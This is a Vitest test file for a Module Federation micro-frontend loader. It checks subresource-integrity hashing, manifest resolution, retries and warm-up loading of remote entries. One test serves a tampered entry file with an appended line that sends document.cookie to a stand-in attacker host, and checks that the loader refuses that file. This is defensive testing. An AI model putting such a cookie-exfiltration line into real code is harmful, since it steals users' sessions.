import { createHash } from 'node:crypto';
import type { ManifestEntry } from '@carpeta/sdk';
import { testManifestEntry } from '@carpeta/sdk/testing/manifest';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';

vi.mock('@module-federation/runtime', () => ({
  init: vi.fn(),
  registerRemotes: vi.fn(),
  loadRemote: vi.fn(),
  // The shell's and the remote's runtime instances: the shell provides the sdk 1.x.
  getInstance: vi.fn((finder?: unknown) =>
    finder
      ? {
          options: {
            shared: { '@carpeta/sdk': [{ shareConfig: { requiredVersion: '^1.0.0', strictVersion: true } }] },
          },
        }
      : { options: { shared: { '@carpeta/sdk': [{ version: '1.0.0' }] } } },
  ),
  satisfy: vi.fn((version: string, range: string) => range === `^${version}`),
}));
const runtime = vi.mocked(await import('@module-federation/runtime'));
const { loadLifecycles, RemoteLoadError, takeLifecycles, warmLifecycles } = await import('./federation.ts');
const { classifyLoadFailure, verifyIntegrity } = await import('./federation-host.ts');

const REMOTE_ENTRY = 'export const init = () => {}; // remote entry of carpeta_files\n';
const sri = (algorithm: string, text: string) =>
  `${algorithm}-${createHash(algorithm).update(text).digest('base64')}`;

const lifecycles = { bootstrap: async () => {}, mount: async () => {}, unmount: async () => {} };

function entry(id: string, integrity?: string): ManifestEntry {
  const base = testManifestEntry(id, { route: `/${id}`, nav: { order: 1, show: true } });
  return {
    ...base,
    remote: { ...base.remote, entry: `https://mfe.example.es/${id}/remoteEntry.js` },
    ...(integrity ? { integrity } : {}),
  };
}

let served = REMOTE_ENTRY;
const fetchMock = vi.fn(async () => new Response(served, { status: 200 }));

beforeEach(() => {
  served = REMOTE_ENTRY;
  fetchMock.mockClear();
  vi.stubGlobal('fetch', fetchMock);
  runtime.registerRemotes.mockClear();
  runtime.loadRemote.mockReset();
  runtime.loadRemote.mockResolvedValue({ default: lifecycles });
});
afterEach(() => {
  vi.unstubAllGlobals();
});

describe('verifyIntegrity', () => {
  it('compares the SHA-256/384/512 of the bytes with the hash', async () => {
    for (const algorithm of ['sha256', 'sha384', 'sha512']) {
      expect(await verifyIntegrity('https://x/remoteEntry.js', sri(algorithm, REMOTE_ENTRY))).toBe(true);
      expect(await verifyIntegrity('https://x/remoteEntry.js', sri(algorithm, `${REMOTE_ENTRY} `))).toBe(
        false,
      );
    }
    expect(await verifyIntegrity('https://x/remoteEntry.js', 'md5-abc')).toBe(false);
    // Never from a cached copy, never with the citizen's cookies.
    expect(fetchMock).toHaveBeenCalledWith('https://x/remoteEntry.js', {
      cache: 'no-cache',
      credentials: 'omit',
    });
  });
});

describe('loadLifecycles with integrity', () => {
  it('runs a remote whose entry file matches its hash', async () => {
    const loaded = await loadLifecycles(entry('good', sri('sha384', REMOTE_ENTRY)), 1000);
    expect(loaded).toBe(lifecycles);
    expect(fetchMock).toHaveBeenCalledTimes(1);
    expect(runtime.registerRemotes).toHaveBeenCalledTimes(1);
  });

  it('refuses a remote whose entry file does not match, before the runtime ever sees it', async () => {
    served = `${REMOTE_ENTRY}fetch('https://evil.example/steal?c=' + document.cookie);\n`;
    const failure = await loadLifecycles(entry('tampered', sri('sha384', REMOTE_ENTRY)), 1000).catch(
      (error: unknown) => error,
    );
    expect(failure).toBeInstanceOf(RemoteLoadError);
    expect(failure).toMatchObject({ failure: 'integrity', mfeId: 'tampered' });
    expect(runtime.registerRemotes).not.toHaveBeenCalled();
    expect(runtime.loadRemote).not.toHaveBeenCalled();
  });

  it('registers the remote with the type its manifest entry gives', async () => {
    await loadLifecycles(entry('esm'), 1000);
    const script = entry('script');
    await loadLifecycles({ ...script, remote: { ...script.remote, type: 'var' } }, 1000);
    expect(runtime.registerRemotes.mock.calls.map(([remotes]) => remotes[0])).toEqual([
      { name: 'carpeta_esm', entry: 'https://mfe.example.es/esm/remoteEntry.js', type: 'module' },
      { name: 'carpeta_script', entry: 'https://mfe.example.es/script/remoteEntry.js', type: 'var' },
    ]);
  });

  it('loads an entry without a hash as before, without fetching it first', async () => {
    expect(await loadLifecycles(entry('unpinned'), 1000)).toBe(lifecycles);
    expect(fetchMock).not.toHaveBeenCalled();
  });

  it('an unreachable entry file is a load failure', async () => {
    fetchMock.mockResolvedValueOnce(new Response('nope', { status: 404 }));
    await expect(loadLifecycles(entry('gone', sri('sha384', REMOTE_ENTRY)), 1000)).rejects.toMatchObject({
      failure: 'load',
    });
  });
});

describe('an entry given as the remote’s mf-manifest.json', () => {
  const manifestEntry = (id: string): ManifestEntry => {
    const base = entry(id);
    return { ...base, remote: { ...base.remote, entry: `https://mfe.example.es/${id}/mf-manifest.json` } };
  };
  const manifest = (publicPath: string) =>
    JSON.stringify({
      name: 'carpeta_x',
      metaData: { publicPath, remoteEntry: { name: 'remoteEntry.js', path: '', type: 'module' } },
    });

  it('is read, and the runtime is given the remote entry it names', async () => {
    served = manifest('auto');
    expect(await loadLifecycles(manifestEntry('by-manifest'), 1000)).toBe(lifecycles);
    expect(fetchMock).toHaveBeenCalledWith(
      'https://mfe.example.es/by-manifest/mf-manifest.json',
      expect.anything(),
    );
    expect(
      runtime.registerRemotes.mock.calls.map(
        ([remotes]) => (remotes[0] as { entry?: string } | undefined)?.entry,
      ),
    ).toEqual(['https://mfe.example.es/by-manifest/remoteEntry.js']);
  });

  it('a manifest that does not answer, or names no remote entry, is a load failure the runtime never sees', async () => {
    fetchMock.mockResolvedValueOnce(new Response('nope', { status: 404 }));
    await expect(loadLifecycles(manifestEntry('missing-manifest'), 1000)).rejects.toMatchObject({
      failure: 'load',
      mfeId: 'missing-manifest',
    });
    served = JSON.stringify({ name: 'carpeta_x', metaData: {} });
    await expect(loadLifecycles(manifestEntry('empty-manifest'), 1000)).rejects.toMatchObject({
      failure: 'load',
    });
    served = '<!doctype html><title>Not JSON</title>';
    await expect(loadLifecycles(manifestEntry('html-manifest'), 1000)).rejects.toMatchObject({
      failure: 'load',
    });
    expect(runtime.registerRemotes).not.toHaveBeenCalled();
  });

  it('a retry reads the manifest again, and marks the remote entry it names as the retry', async () => {
    const again = manifestEntry('again');
    served = manifest('https://cdn.example.es/again/');
    runtime.loadRemote.mockRejectedValueOnce(new Error('gone'));
    await expect(loadLifecycles(again, 1000)).rejects.toMatchObject({ failure: 'load' });
    expect(await loadLifecycles(again, 1000)).toBe(lifecycles);
    expect(
      runtime.registerRemotes.mock.calls.map(
        ([remotes]) => (remotes[0] as { entry?: string } | undefined)?.entry,
      ),
    ).toEqual([
      'https://cdn.example.es/again/remoteEntry.js',
      'https://cdn.example.es/again/remoteEntry.js?carpeta-retry=2',
    ]);
  });
});

describe('warmLifecycles (a link pointed at or focused)', () => {
  it('loads the remote once: the route then takes what was loaded ahead', async () => {
    const warm = entry('warm');
    warmLifecycles(warm, 1000);
    warmLifecycles(warm, 1000);
    expect(await takeLifecycles(warm, 1000)).toBe(lifecycles);
    expect(runtime.loadRemote).toHaveBeenCalledTimes(1);
    expect(runtime.registerRemotes).toHaveBeenCalledTimes(1);
  });

  it('a remote moved by a new manifest is loaded from its new entry', async () => {
    const before = entry('moved');
    warmLifecycles(before, 1000);
    await takeLifecycles(before, 1000);
    const after = {
      ...before,
      remote: { ...before.remote, entry: 'https://mfe2.example.es/moved/remoteEntry.js' },
    };
    await takeLifecycles(after, 1000);
    expect(runtime.registerRemotes.mock.calls.map(([remotes]) => remotes[0])).toEqual([
      expect.objectContaining({ entry: 'https://mfe.example.es/moved/remoteEntry.js' }),
      expect.objectContaining({
        entry: expect.stringContaining('https://mfe2.example.es/moved/remoteEntry.js'),
      }),
    ]);
  });

  it('never loads again a remote its route already loaded', async () => {
    const opened = entry('opened');
    await takeLifecycles(opened, 1000);
    warmLifecycles(opened, 1000);
    expect(runtime.loadRemote).toHaveBeenCalledTimes(1);
    expect(runtime.registerRemotes).toHaveBeenCalledTimes(1);
  });

  it('forgets a failed warm-up: the route loads again and shows its own error', async () => {
    const flaky = entry('flaky');
    runtime.loadRemote.mockRejectedValueOnce(new Error('offline'));
    warmLifecycles(flaky, 1000);
    await vi.waitFor(() => expect(runtime.loadRemote).toHaveBeenCalledTimes(1));
    await new Promise((resolve) => setTimeout(resolve, 0));
    expect(await takeLifecycles(flaky, 1000)).toBe(lifecycles);
    expect(runtime.loadRemote).toHaveBeenCalledTimes(2);
  });
});

describe('classifyLoadFailure', () => {
  const url = 'https://mfe.example.es/x/remoteEntry.js';
  it('an entry that answers but failed is one that threw while evaluated', async () => {
    const probe = vi.fn<typeof fetch>(async () => new Response('export {}'));
    expect(await classifyLoadFailure(url, probe)).toBe('evaluation');
  });
  it('an entry that answers 404 or not at all is unreachable', async () => {
    expect(await classifyLoadFailure(url, async () => new Response('', { status: 404 }))).toBe('load');
    expect(
      await classifyLoadFailure(url, async () => {
        throw new TypeError('offline');
      }),
    ).toBe('load');
  });
});
